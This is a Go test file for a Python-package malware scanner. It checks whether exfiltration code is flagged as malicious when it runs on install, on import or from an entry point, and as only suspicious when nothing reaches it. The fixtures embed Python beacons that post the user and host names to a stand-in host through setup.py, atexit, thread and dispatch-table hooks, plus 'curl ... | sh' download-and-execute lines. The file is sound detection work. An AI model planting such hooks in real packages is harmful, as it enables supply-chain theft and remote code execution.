package analyze

import (
	"testing"
)

// Reachability: code keeps its severity when what runs on install, on
// import or from an entry point reaches it — across functions and
// modules — and is runtime when nothing does. Each case that reaches has
// its look-alike next to it, with the same code that nothing reaches.
func TestReachability(t *testing.T) {
	// beacon sends the user and host names: malicious where it runs on
	// install or import, suspicious where nothing calls it.
	beacon := "import getpass, socket, requests\n" +
		"def collect():\n    requests.post('https://example.invalid/c', data={'u': getpass.getuser(), 'h': socket.gethostname()})\n"
	util := beacon + "def version():\n    return open('VERSION').read().strip()\n"
	tests := []struct {
		name    string
		files   map[string]string
		wheel   bool
		verdict Verdict
		context Context // of the exfiltrates-host-info finding, when one is expected
	}{
		{"setup.py calls a helper module's function", map[string]string{
			"setup.py":      "from setuptools import setup\nfrom p.util import collect\ncollect()\nsetup(name='p')\n",
			"p/util.py":     util,
			"p/__init__.py": "",
		}, false, Malicious, Install},
		{"setup.py calls another function of that module", map[string]string{
			"setup.py":      "from setuptools import setup\nfrom p.util import version\nsetup(name='p', version=version())\n",
			"p/util.py":     util,
			"p/__init__.py": "",
		}, false, Suspicious, Runtime},
		{"a cmdclass calls a module function by its dotted name", map[string]string{
			"setup.py":      "from setuptools import setup\nfrom setuptools.command.install import install\nimport p.util\nclass I(install):\n    def run(self):\n        p.util.collect()\n        install.run(self)\nsetup(name='p', cmdclass={'install': I})\n",
			"p/util.py":     util,
			"p/__init__.py": "",
		}, false, Malicious, Install},
		{"import-time code calls a chain of functions", map[string]string{
			"p/__init__.py": "from .core import start\nstart()\n",
			"p/core.py":     beacon + "def _init():\n    collect()\ndef start():\n    _init()\n",
		}, false, Malicious, Import},
		{"the same chain re-exported, not called", map[string]string{
			"p/__init__.py": "from .core import start\n__all__ = ['start']\n",
			"p/core.py":     beacon + "def _init():\n    collect()\ndef start():\n    _init()\n",
		}, false, Suspicious, Runtime},
		{"a thread started on import with an imported target", map[string]string{
			"p/__init__.py": "import threading\nfrom .net import collect\nthreading.Thread(target=collect, daemon=True).start()\n",
			"p/net.py":      beacon,
		}, false, Malicious, Import},
		{"a function registered with atexit by a decorator", map[string]string{
			"p/__init__.py": "import atexit, getpass, socket, requests\n@atexit.register\ndef bye():\n    requests.post('https://example.invalid/c', data={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
		}, false, Malicious, Import},
		{"a function registered with an aliased atexit", map[string]string{
			"p/__init__.py": "import atexit as ae\nfrom .net import collect\nae.register(collect)\n",
			"p/net.py":      beacon,
		}, false, Malicious, Import},
		{"a function handed to a registry on import", map[string]string{
			"p/__init__.py": "from .registry import handlers\nfrom .net import collect\nhandlers.register('beacon', collect)\n",
			"p/registry.py": "class Registry(dict):\n    def register(self, name, fn):\n        self[name] = fn\nhandlers = Registry()\n",
			"p/net.py":      beacon,
		}, false, Suspicious, Runtime},
		{"a verb table stored on a parser made on import", map[string]string{
			"p/__init__.py": "from .cli import Parser\nPARSER = Parser()\n",
			"p/cli.py":      "from . import net\nclass Parser:\n    def __init__(self):\n        self.VERBS = {'report': net.collect}\n",
			"p/net.py":      beacon,
		}, false, Suspicious, Runtime},
		{"a dispatch table indexed and called on import", map[string]string{
			"p/__init__.py": "from . import net\nVERBS = {'report': net.collect}\nVERBS['report']()\n",
			"p/net.py":      beacon,
		}, false, Malicious, Import},
		{"a command table made with dict() and called on import", map[string]string{
			"p/__init__.py": "from . import net\nentry = dict(main=net.collect)\nentry['main']()\n",
			"p/net.py":      beacon,
		}, false, Malicious, Import},
		{"a command table iterated and called on import", map[string]string{
			"p/__init__.py": "from . import net\nHOOKS = {'report': net.collect}\nfor hook in HOOKS.values():\n    hook()\n",
			"p/net.py":      beacon,
		}, false, Malicious, Import},
		{"a web route that runs when a request comes", map[string]string{
			"p/__init__.py": "import getpass, socket, requests\nfrom flask import Flask\napp = Flask(__name__)\n@app.route('/')\ndef hello():\n    requests.post('https://example.invalid/c', data={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
		}, false, Suspicious, Runtime},
		{"a class instantiated on import", map[string]string{
			"p/__init__.py": "from .upd import Updater\nUpdater()\n",
			"p/upd.py":      "import getpass, socket, requests\nclass Updater:\n    def __init__(self):\n        self.send()\n    def send(self):\n        requests.post('https://example.invalid/c', data={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
		}, false, Malicious, Import},
		{"a class only subclassed on import", map[string]string{
			"p/__init__.py": "from .upd import Updater\nclass Mine(Updater):\n    pass\n",
			"p/upd.py":      "import getpass, socket, requests\nclass Updater:\n    def __init__(self):\n        self.send()\n    def send(self):\n        requests.post('https://example.invalid/c', data={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
		}, false, Suspicious, Runtime},
		{"a module setup.py imports with python -c", map[string]string{
			"setup.py":      "import os, sys\nfrom setuptools import setup\nos.system(sys.executable + ' -c \"import p.post\"')\nsetup(name='p')\n",
			"p/post.py":     beacon + "collect()\n",
			"p/__init__.py": "",
		}, false, Malicious, Install},
		{"the same module nothing runs", map[string]string{
			"setup.py":      "from setuptools import setup\nsetup(name='p')\n",
			"p/post.py":     beacon + "collect()\n",
			"p/__init__.py": "",
		}, false, Suspicious, Runtime},
		{"setup.py loads a module from its file location and calls it", map[string]string{
			"setup.py":      "import os, importlib.util\nfrom setuptools import setup\npath = os.path.join(os.path.dirname(__file__), 'p', '_post.py')\nspec = importlib.util.spec_from_file_location('p._post', path)\npost = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(post)\npost.collect()\nsetup(name='p')\n",
			"p/_post.py":    util,
			"p/__init__.py": "",
		}, false, Malicious, Install},
		{"setup.py loads the same module for its version", map[string]string{
			"setup.py":      "import os, importlib.util\nfrom setuptools import setup\npath = os.path.join(os.path.dirname(__file__), 'p', '_post.py')\nspec = importlib.util.spec_from_file_location('p._post', path)\npost = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(post)\nsetup(name='p', version=post.version())\n",
			"p/_post.py":    util,
			"p/__init__.py": "",
		}, false, Suspicious, Runtime},
		{"setup.py runs a module by path with runpy", map[string]string{
			"setup.py":      "import runpy\nfrom setuptools import setup\nrunpy.run_path('p/post.py')\nsetup(name='p')\n",
			"p/post.py":     beacon + "collect()\n",
			"p/__init__.py": "",
		}, false, Malicious, Install},
		{"a console script's function", map[string]string{
			"p/__init__.py":                  "",
			"p/cli.py":                       beacon + "def main():\n    collect()\n",
			"p-1.dist-info/entry_points.txt": "[console_scripts]\np = p.cli:main\n",
		}, true, Malicious, Entry},
		{"the same function no entry point names", map[string]string{
			"p/__init__.py":                  "",
			"p/cli.py":                       beacon + "def main():\n    collect()\n",
			"p/other.py":                     "def main():\n    print('hi')\n",
			"p-1.dist-info/entry_points.txt": "[console_scripts]\np = p.other:main\n",
		}, true, Suspicious, Runtime},
		{"a package's __main__ run with python -m", map[string]string{
			"p/__init__.py": "",
			"p/__main__.py": beacon + "if __name__ == '__main__':\n    collect()\n",
		}, false, Malicious, Entry},
		{"a console script uploading the file it is given", map[string]string{
			"p/__init__.py":                  "",
			"p/cli.py":                       "import sys, requests\ndef main():\n    with open(sys.argv[1], 'rb') as fh:\n        requests.post('https://api.example.invalid/v1/upload', files={'f': fh})\n",
			"p-1.dist-info/entry_points.txt": "[console_scripts]\np = p.cli:main\n",
		}, true, Clean, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var r *Result
			if tt.wheel {
				files := map[string][]byte{}
				for n, s := range tt.files {
					files[n] = []byte(s)
				}
				r = wheelWith(t, files)
			} else {
				r = sdist(t, tt.files)
			}
			if r.Verdict != tt.verdict {
				t.Errorf("verdict %s, want %s; findings: %+v", r.Verdict, tt.verdict, r.Findings)
			}
			if tt.context == "" {
				return
			}
			found := false
			for _, f := range r.Findings {
				if f.Rule == "exfiltrates-host-info" {
					found = true
					if f.Context != tt.context {
						t.Errorf("%s:%d in context %s, want %s", f.File, f.Line, f.Context, tt.context)
					}
				}
			}
			if !found {
				t.Errorf("no exfiltrates-host-info finding: %+v", r.Findings)
			}
		})
	}
}

// A chain of plain modules carries reachability: the package's __init__
// calls a helper's function that calls the payload in a third module.
// Neither of the first two holds a behaviour word, so each is parsed
// because it leads to one that does.
func TestReachThroughPlainModules(t *testing.T) {
	files := map[string]string{
		"p/__init__.py": "from .a import start\nstart()\n",
		"p/a.py":        "from .b import run\n\ndef start():\n    run()\n",
		"p/b.py":        "import os\n\ndef run():\n    os.system('curl -s https://x.example.invalid/i | sh')\n",
	}
	r := sdist(t, files)
	if r.Verdict != Malicious || !hasRule(r, "download-execute", Critical) {
		t.Errorf("payload two plain modules away from __init__: %s\n%s", r.Verdict, findingLines(r))
	}
	files["p/__init__.py"] = "from .a import start\n"
	if r := sdist(t, files); r.Verdict == Malicious {
		t.Errorf("nothing calls start on import: %s\n%s", r.Verdict, findingLines(r))
	}
}

// Plain modules are judged on their import skeletons: what their import-
// time code runs still carries reachability — a function of the module,
// a method of a class it instantiates, a function registered with atexit —
// and a method nothing runs on import does not.
func TestReachThroughSkeletons(t *testing.T) {
	payload := "import os\n\ndef run():\n    os.system('curl -s https://x.example.invalid/i | sh')\n"
	tests := []struct {
		name    string
		models  string
		verdict Verdict
	}{
		{"a module function called on import", "from .b import run\n\ndef _setup():\n    '''Set up.'''\n    run()\n\n_setup()\n", Malicious},
		{"a class instantiated on import", "from .b import run\n\nclass Registry:\n    def __init__(self):\n        self.load()\n\n    def load(self):\n        run()\n\nREGISTRY = Registry()\n", Malicious},
		{"a function registered with atexit", "import atexit\nfrom .b import run\n\n@atexit.register\ndef _bye():\n    run()\n", Malicious},
		{"a model's methods nothing calls", "from .b import run\n\nclass Model:\n    '''A model.'''\n\n    def __init__(self):\n        run()\n\n    def refresh(self):\n        run()\n", Suspicious},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := sdist(t, map[string]string{"p/__init__.py": "from . import models\n", "p/models.py": tt.models, "p/b.py": payload})
			if r.Verdict != tt.verdict {
				t.Errorf("verdict %s, want %s\n%s", r.Verdict, tt.verdict, findingLines(r))
			}
		})
	}
}
